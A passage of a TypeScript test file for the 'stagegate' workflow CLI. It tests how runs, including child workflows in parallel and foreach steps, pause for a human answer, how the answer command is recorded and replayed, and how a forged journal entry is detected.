    const done = await ws.run([...args, '--answer', 'platform engineers', '--by', 'bob'], { env: env(ws, true) });
    expect(jsonOf(done).status, done.stdout + done.stderr).toBe('WORKFLOW_COMPLETE');
    const [, second] = ws.calls();
    expect(second.argv.some((a: string) => a.startsWith('--resume'))).toBe(false);
    expect(second.prompt).toBe(preview.stdout.replace('<your answer>', 'platform engineers'));
    expect(second.prompt).toContain('## Your questions, answered');
    expect(second.prompt).toContain('### Question 1\n\n> Which audience?\n\nAnswer:\n\n> platform engineers');
    // The contract tells the agent how to ask.
    expect(ws.calls()[0].prompt).toContain("end the file with status `NEED_INFO` and add `question: <one clear question>` to the gate");
  });
});

describe('validate: where ASK may stand', () => {
  it('refuses ASK on a per-item step, an action, a transition other than a status, and a step named ASK', async () => {
    const ws = workspaceWith({
      'reg.md': '| id |\n|----|\n| A |\n',
      'wf.yaml': `version: '4.0'
name: places
state_path: 'runs/{{run_id}}/workflow_state.yaml'
inputs:
  required: [run_id]
steps:
  act:
    action: 'echo hi'
    statuses: {OK: ASK}
    on_complete: loop
    on_failure: ASK
  loop:
    foreach: { source: reg.md, id_field: id }
    per_item:
      item:
        run: 'stagegate gate OK'
        output: 'runs/{{run_id}}/{{item_id}}.md'
        statuses: {OK: next_artifact, MORE: ASK}
    completion: { on_complete: ASK }
`,
    });
    const r = await ws.run(['validate', 'wf.yaml', '--json']);
    const out = JSON.parse(r.stdout);
    const codes = [...out.errors, ...(out.warnings ?? [])].map((d: any) => `${d.code} ${d.message}`);
    // ASK is no misspelt step: no loop or did-you-mean guessed from it.
    expect(codes.filter((c: string) => c.startsWith('LOOP_'))).toEqual([]);
    expect(codes.some((c: string) => c.startsWith('ASK_NOT_ALLOWED') && c.includes("per-item step 'item'"))).toBe(true);
    expect(codes.some((c: string) => c.startsWith('ASK_NOT_ALLOWED') && c.includes("on_failure of step 'act'"))).toBe(true);
    expect(codes.some((c: string) => c.startsWith('ASK_NOT_ALLOWED') && c.includes("completion.on_complete of step 'loop'"))).toBe(true);
    const named = workspaceWith({ 'wf.yaml': askingYaml().replace('statuses: {WRITTEN: DONE, NEED_INFO: ASK}', 'statuses: {WRITTEN: ASK_, NEED_INFO: ASK}\n  ASK_:\n    run: \'true\'\n    on_complete: DONE').replace(/ASK_/g, 'ASK') });
    const v = await named.run(['validate', 'wf.yaml']);
    expect(v.stdout + v.stderr).toContain('STEP_ID_RESERVED');
  });

  it('accepts ASK on a gated top-level stage', async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml() });
    const r = await ws.run(['validate', 'wf.yaml']);
    expect(r.code, r.stdout + r.stderr).toBe(0);
  });
});

describe('a question in a child workflow run', () => {
  it('the parent stops WORKFLOW_ANSWER_REQUIRED with next: the child run answered; then its resume continues the child to the end', async () => {
    const ws = workspaceWith({
      'wf.yaml': askingYaml(),
      'parent.yaml': `version: '4.0'
name: parent
state_path: 'runs/{{run_id}}/parent_state.yaml'
inputs:
  required: [run_id]
steps:
  sub:
    child_workflow: wf.yaml
    inputs: { run_id: 'c-{{run_id}}' }
    statuses: { WORKFLOW_COMPLETE: DONE }
`,
    });
    const r = await ws.run(['run', 'parent.yaml', '--run-id', 'p1', '--json']);
    expect(r.code).toBe(4);
    const out = jsonOf(r);
    expect(out).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', next_command: "stagegate run wf.yaml --run-id c-p1 --answer '<your answer>'" });
    expect(out.message).toContain('Which colour, and why?');
    expect(out.hint).toContain('then resume this run with `stagegate run parent.yaml --run-id p1`');
    // The parent takes no answer of its own.
    const refused = await ws.run(['run', 'parent.yaml', '--run-id', 'p1', '--answer', 'x', '--json']);
    expect(refused.code).toBe(2);
    // It says where the answer goes (not "no question waiting" of a run that stands at WORKFLOW_ANSWER_REQUIRED).
    expect(jsonOf(refused)).toMatchObject({ status: 'WORKFLOW_ANSWER_NOT_PENDING', next_command: "stagegate run wf.yaml --run-id c-p1 --answer '<your answer>'" });
    expect(jsonOf(refused).message).toContain("its child workflow run's (step sub)");
    expect((await ws.run(['run', 'wf.yaml', '--run-id', 'c-p1', '--answer', 'red'])).code).toBe(0);
    const done = await ws.run(['run', 'parent.yaml', '--run-id', 'p1', '--json']);
    expect(jsonOf(done).status, done.stdout + done.stderr).toBe('WORKFLOW_COMPLETE');
  });

  // Campaign: every step of it is proved in npm test by the test below (the same parents, the same
  // next_command from run and status, the hint's resume of this run, the child answered, the parent's resume to the end).
  it("a child run's question in a parallel branch or a foreach item: next: is the child run's --answer, not the parent's plain resume", { tags: [CAMPAIGN] }, async () => {
    const ws = workspaceWith({
      'wf.yaml': askingYaml(),
      'reg.md': '| id |\n|----|\n| A |\n',
      'par.yaml': `version: '4.0'
name: par
state_path: 'runs/{{run_id}}/par_state.yaml'
inputs:
  required: [run_id]
steps:
  fan:
    parallel:
      branches:
        sub:
          child_workflow: wf.yaml
          inputs: { run_id: 'c-{{run_id}}' }
          statuses: { WORKFLOW_COMPLETE: DONE }
        other:
          run: 'echo ok > "$STAGEGATE_OUTPUT"; stagegate gate OK'
          output: 'runs/{{run_id}}/other.md'
          statuses: { OK: DONE }
    statuses: { PARALLEL_COMPLETE: DONE }
`,
      'fe.yaml': `version: '4.0'
name: fe
state_path: 'runs/{{run_id}}/fe_state.yaml'
inputs:
  required: [run_id]
steps:
  loop:
    foreach: { source: reg.md, id_field: id }
    per_item:
      item:
        child_workflow: wf.yaml
        inputs: { run_id: 'i-{{item_id}}' }
        statuses: { WORKFLOW_COMPLETE: next_artifact }
    completion: { on_complete: DONE }
`,
    });
    for (const [file, run, child] of [['par.yaml', 'p1', 'c-p1'], ['fe.yaml', 'f1', 'i-A']] as const) {
      const answer = `stagegate run wf.yaml --run-id ${child} --answer '<your answer>'`;
      const r = await ws.run(['run', file, '--run-id', run, '--json']);
      expect(jsonOf(r), r.stdout + r.stderr).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', next_command: answer });
      expect(jsonOf(r).hint).toContain(`then resume this run with \`stagegate run ${file} --run-id ${run}\``);
      expect(jsonOf(await ws.run(['status', file, '--run-id', run, '--json'])).next_command).toBe(answer);
      expect((await ws.run(['run', 'wf.yaml', '--run-id', child, '--answer', 'red'])).code).toBe(0);
      const done = await ws.run(['run', file, '--run-id', run, '--json']);
      expect(jsonOf(done).status, done.stdout + done.stderr).toBe('WORKFLOW_COMPLETE');
    }
  });

  it("the command that answers is recorded with the stop the question below caused (child_failed, a parallel step's attempt_failed, foreach_ended) and read from there: a child run's own child that asks is named, not the child run between", { tags: [CAMPAIGN] }, async () => {
    const ws = workspaceWith({
      'wf.yaml': askingYaml(),
      'reg.md': '| id |\n|----|\n| A |\n',
      ...BELOW,
    });
    for (const [file, run, event, answering] of [
      ['top.yaml', 't1', 'child_failed', "stagegate run wf.yaml --run-id g-m-t1 --answer '<your answer>'"],
      ['par.yaml', 'p1', 'attempt_failed', "stagegate run wf.yaml --run-id c-p1 --answer '<your answer>'"],
      ['fe.yaml', 'f1', 'foreach_ended', "stagegate run wf.yaml --run-id i-A --answer '<your answer>'"],
    ] as const) {
      const r = await ws.run(['run', file, '--run-id', run, '--json']);
      expect(jsonOf(r), r.stdout + r.stderr).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', next_command: answering });
      expect(jsonOf(r).hint, file).toContain(`then resume this run with \`stagegate run ${file} --run-id ${run}\``);
      const stop = ws.read(`runs/${run}/${file.replace('.yaml', '')}_state.journal.jsonl`).trim().split('\n').map((l) => JSON.parse(l)).find((e: any) => e.event === event && e.code === 'WORKFLOW_ANSWER_REQUIRED');
      expect(stop?.answer_command, file).toBe(answering);
      expect(jsonOf(await ws.run(['status', file, '--run-id', run, '--json'])).next_command, file).toBe(answering);
      const refused = await ws.run(['run', file, '--run-id', run, '--answer', 'x', '--json']);
      expect(jsonOf(refused), file).toMatchObject({ status: 'WORKFLOW_ANSWER_NOT_PENDING', next_command: answering });
      const asking = answering.split(' ')[4]!;
      expect((await ws.run(['run', 'wf.yaml', '--run-id', asking, '--answer', 'red'])).code).toBe(0);
      // The run between (top's child, mid) is continued by the resume, and the resume of top continues it.
      const done = await ws.run(['run', file, '--run-id', run, '--json']);
      expect(jsonOf(done).status, done.stdout + done.stderr).toBe('WORKFLOW_COMPLETE');
    }
  });

  it("a recorded answer_command stands only while the run waits on that question: once the child's question is answered and the parent pauses at the child's approval, a parent's --answer is refused as no question waiting, not sent to the answered one", { tags: [CAMPAIGN] }, async () => {
    // The child asks, then (answered) stops at an approval: the parent's step keeps its record of the earlier stop.
    const ws = workspaceWith({ 'wf.yaml': askingYaml().replace('WRITTEN: DONE', 'WRITTEN: check') + "  check:\n    approval: { message: 'ship it?' }\n    on_approve: DONE\n", 'sub.yaml': BELOW['sub.yaml']! });
    expect(jsonOf(await ws.run(['run', 'sub.yaml', '--run-id', 's1', '--json']))).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', next_command: "stagegate run wf.yaml --run-id c-s1 --answer '<your answer>'" });
    expect((await ws.run(['run', 'wf.yaml', '--run-id', 'c-s1', '--answer', 'red'])).code).toBe(0);
    const paused = await ws.run(['run', 'sub.yaml', '--run-id', 's1', '--json']);
    expect(jsonOf(paused).status, paused.stdout + paused.stderr).toBe('PARTIAL_RESUMABLE');
    const refused = await ws.run(['run', 'sub.yaml', '--run-id', 's1', '--answer', 'x', '--json']);
    const out = jsonOf(refused);
    expect(out.status, refused.stdout + refused.stderr).toBe('WORKFLOW_ANSWER_NOT_PENDING');
    expect(out.message).toContain('has no question waiting for an answer (it stands at PARTIAL_RESUMABLE, step sub)');
    expect(String(out.next_command)).not.toContain('--answer');
  });

  it('a journal written before the command was recorded (no answer_command) still replays, and its next command is read from the stop as before', async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml(), 'reg.md': '| id |\n|----|\n| A |\n', ...BELOW });
    for (const [file, run, answering] of [
      ['sub.yaml', 's1', "stagegate run wf.yaml --run-id c-s1 --answer '<your answer>'"],
      ['par.yaml', 'p1', "stagegate run wf.yaml --run-id c-p1 --answer '<your answer>'"],
      ['fe.yaml', 'f1', "stagegate run wf.yaml --run-id i-A --answer '<your answer>'"],
    ] as const) {
      expect((await ws.run(['run', file, '--run-id', run])).code).toBe(4);
      // As an earlier stagegate wrote it: no answer_command; its projections gone (written again from the journal).
      const path = `runs/${run}/${file.replace('.yaml', '')}_state.journal.jsonl`;
      const events = ws.read(path).trim().split('\n').map((l) => JSON.parse(l));
      expect(events.filter((e: any) => e.answer_command !== undefined), file).toHaveLength(1);
      ws.write(path, rechained(events.map(({ answer_command: _answer, ...e }: any) => e)));
      rmSync(ws.path(`runs/${run}/${file.replace('.yaml', '')}_state.yaml`));
      rmSync(ws.path(`runs/${run}/RUN_MANIFEST.yaml`));
      const st = await ws.run(['status', file, '--run-id', run, '--json']);
      expect(jsonOf(st), st.stdout + st.stderr).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', next_command: answering });
      const again = await ws.run(['run', file, '--run-id', run, '--json']);
      expect(jsonOf(again), again.stdout + again.stderr).toMatchObject({ status: 'WORKFLOW_ANSWER_REQUIRED', next_command: answering });
      expect((await ws.run(['run', 'wf.yaml', '--run-id', answering.split(' ')[4]!, '--answer', 'red'])).code).toBe(0);
      const done = await ws.run(['run', file, '--run-id', run, '--json']);
      expect(jsonOf(done).status, done.stdout + done.stderr).toBe('WORKFLOW_COMPLETE');
    }
  });

  it('an answer_command on a stop that is no question below is refused on replay (a forged command to paste)', async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml(), ...BELOW });
    expect((await ws.run(['run', 'sub.yaml', '--run-id', 's1'])).code).toBe(4);
    const path = 'runs/s1/sub_state.journal.jsonl';
    const events = ws.read(path).trim().split('\n').map((l) => JSON.parse(l));
    ws.write(path, rechained(events.map((e: any) => (e.event === 'child_failed' ? { ...e, code: 'STAGE_FAILED' } : e))));
    const st = await ws.run(['status', 'sub.yaml', '--run-id', 's1', '--json']);
    expect(jsonOf(st).status, st.stdout).toBe('WORKFLOW_STATE_INTEGRITY_VIOLATION');
    expect(jsonOf(st).message).toContain('records an answer_command with code STAGE_FAILED');
  });

  it('plan says the question and how a resume goes on', async () => {
    const ws = workspaceWith({ 'wf.yaml': askingYaml() });
    await ws.run(['run', 'wf.yaml', '--run-id', 'r1']);
    const plan = await ws.run(['plan', 'wf.yaml', '--run-id', 'r1', '--json']);
    expect(jsonOf(plan)).toMatchObject({ status: 'PLAN', next_step: 'write', question: { step: 'write', visit: 1, attempt: 1, text: 'Which colour, and why?' } });
    const text = await ws.run(['plan', 'wf.yaml', '--run-id', 'r1']);
    expect(text.stdout).toContain('asks:   Which colour, and why?');
  });
});
